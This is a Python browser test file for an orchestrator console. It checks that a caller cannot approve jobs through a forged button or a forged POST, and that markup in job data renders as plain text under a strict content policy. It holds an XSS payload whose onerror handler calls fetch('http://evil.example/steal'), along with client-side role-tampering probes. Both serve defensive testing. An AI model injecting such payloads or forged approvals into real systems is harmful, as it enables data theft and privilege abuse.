"""What the console must never do: let a caller's key decide (no approve button; a forged click or a forged
POST is a 403 from the gateway and the job still waits), or run markup a job carries (a job whose inputs
hold `<img src=x onerror=…>` shows those characters as text, and the handler never runs)."""

from __future__ import annotations

from tests.console.conftest import browser_was_clean, sign_in
from tests.support.stack import poll_job

# If this ever ran, it would set a flag and call a host outside the gateway (both are checked).
PAYLOAD = "<img src=x onerror=\"window.__pwned=1;fetch('http://evil.example/steal')\"><script>window.__pwned=2</script>"
CARD = "document.querySelector('.inbox:not(.decided) article[data-job-id=\"{job}\"]')"


async def test_a_caller_sees_no_approve_button_and_a_forged_click_or_post_is_refused(console, browser):
    async with console.as_("chatgpt") as gpt:
        resp = await gpt.post(
            "/orchestrate", json={"intent": "approval.request", "inputs": {"message": f"Publish? {PAYLOAD}"}}
        )
        assert resp.status_code == 202, resp.text
        job_id = resp.json()["job_id"]

    await sign_in(browser, console, "chatgpt")
    await browser.open(f"{console.page}#/approvals")
    card = CARD.format(job=job_id)
    await browser.wait_for(f"!!{card}", what="the pending approval, shown read-only")
    assert await browser.evaluate(f"{card}.querySelectorAll('button, textarea').length") == 0, (
        "no approve or reject for a caller"
    )
    assert "cannot approve or reject" in await browser.evaluate(f"{card}.textContent")
    # The question is shown exactly, as text.
    assert await browser.evaluate(f"{card}.querySelector('.message').textContent") == f"Publish? {PAYLOAD}"
    assert await browser.evaluate(f"{card}.querySelectorAll('img, script').length") == 0

    # A forged click: the page is told the key is an approver, so it draws the buttons; the gateway decides.
    await browser.evaluate("import('/console/state.js').then(m => { m.ctx.me.role = 'approver'; })")
    await browser.open(f"{console.page}#/jobs")
    await browser.open(f"{console.page}#/approvals")
    await browser.wait_for(f"!!{card}?.querySelector('button.approve')", what="the forged approve button")
    await browser.evaluate(f"{card}.querySelector('button.approve').click()")
    refusal = await browser.wait_for(
        f"{card}.querySelector('.decision-status.field-error')?.textContent", what="the refusal"
    )
    assert refusal.startswith("Forbidden:") and "approver or admin" in refusal, refusal

    # A forged request, with the signed-in key, straight from the page.
    status = await browser.evaluate(f"""fetch('/jobs/{job_id}/approve', {{method: 'POST',
        headers: {{'Authorization': 'Bearer ' + sessionStorage.getItem('gpt-orchestrator.console.key'), 'Content-Type': 'application/json'}},
        body: '{{}}'}}).then(r => r.status)""")
    assert status == 403

    async with console.as_("alice") as alice:
        job = (await alice.get(f"/jobs/{job_id}")).json()
        assert job["status"] == "awaiting_approval", "nothing the caller did decided it"
        assert (await alice.post(f"/jobs/{job_id}/reject", json={"reason": "test over"})).status_code == 200
    assert await browser.evaluate("window.__pwned") is None
    browser_was_clean(browser, console)


async def test_markup_in_a_jobs_inputs_and_result_renders_as_harmless_text(console, browser):
    async with console.as_("chatgpt") as gpt:
        resp = await gpt.post(
            "/orchestrate", json={"intent": "memory.write", "inputs": {"text": PAYLOAD, "tags": [PAYLOAD[:60]]}}
        )
        assert resp.status_code == 200, resp.text
        job_id = resp.json()["job_id"]
        await poll_job(gpt, job_id)

    await sign_in(browser, console, "chatgpt")
    await browser.open(f"{console.page}#/jobs/{job_id}")
    text = await browser.wait_for_text("Inputs (secrets redacted)", "success")
    assert "<img src=x onerror=" in text and "<script>window.__pwned=2</script>" in text, (
        "the characters are shown as they are"
    )
    assert "<img src=x onerror=" in await browser.evaluate("document.querySelector('h1').textContent"), (
        "the summary too"
    )
    assert await browser.evaluate("document.querySelectorAll('main img, main script, main iframe').length") == 0
    assert await browser.evaluate("window.__pwned") is None
    # The page's own policy: scripts and everything else from this origin only, no inline script, Trusted Types.
    csp = await browser.evaluate("fetch('/console').then(r => r.headers.get('content-security-policy'))")
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "require-trusted-types-for 'script'" in csp
    # Even if the console had a bug that handed server text to innerHTML, the browser would refuse it.
    refused = await browser.evaluate(
        "(() => { try { document.body.appendChild(document.createElement('div')).innerHTML = '<b>x</b>'; return false; } catch (e) { return e instanceof TypeError; } })()"
    )
    assert refused is True
    # Only the Trusted Types refusal above is in the console: it is the test's own probe.
    browser.console[:] = [e for e in browser.console if "TrustedHTML" not in e["text"]]
    browser_was_clean(browser, console)
